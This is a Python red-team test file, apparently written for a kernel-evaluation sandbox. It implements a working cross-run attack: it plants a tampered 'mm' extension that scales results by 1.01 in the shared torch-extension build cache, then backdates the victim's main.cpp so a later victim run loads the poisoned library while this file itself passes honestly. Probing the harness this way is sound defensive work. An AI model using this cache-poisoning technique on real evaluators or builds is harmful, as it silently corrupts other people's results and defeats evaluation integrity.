"""Attack (a later run of a different file changed): poison the torch-extension build cache.

The sandbox leaves the build caches writable (harness/evaluator/sandbox.py worker_environment: ~/.cache, ~/.triton,
~/.nv, TORCH_EXTENSIONS_DIR...; harness/worker/confine.py), and they persist between runs. load_inline builds into
~/.cache/torch_extensions/<py>_<cpu|cuXXX>/<name>/, writes main.cpp and build.ninja only when their content changed
and lets ninja decide whether to rebuild; a fresh process starts at version 0 of a name. So: read the victim's
source (the whole file system is readable), build an extension of the *same name* with a wrong mm in the victim's
build folder, then put the victim's exact main.cpp back with an old mtime. The victim's next run finds everything
"up to date" and loads this .so. This file itself computes honestly and passes.
Victim: tests/redteam_new/victim_inline.py (the lineage's v8/v23/v27 build CUDA extensions the same way)."""
import ast
import os
from pathlib import Path

from torch.utils.cpp_extension import _get_build_directory, load_inline

from _honest import honest

NAME = "redteam_victim_ext"
victim = ast.parse((Path(__file__).parent / "victim_inline.py").read_text())
victim_src = next(n.value.value for n in victim.body if isinstance(n, ast.Assign) and n.targets[0].id == "CPP_SRC")

EVIL = "torch::Tensor mm(torch::Tensor a, torch::Tensor b) { return torch::matmul(a, b).mul_(1.01); }"
load_inline(NAME, EVIL, functions=["mm"])
folder = Path(_get_build_directory(NAME, False))
main = folder / "main.cpp"
main.write_text("\n".join(["#include <torch/extension.h>", victim_src, "PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {",
                           'm.def("mm", torch::wrap_pybind_function(mm), "mm");', "}"]))
os.utime(main, (1_000_000_000, 1_000_000_000))  # older than main.o and the .so: ninja sees nothing to do


def custom_kernel(data):
    return honest(data)
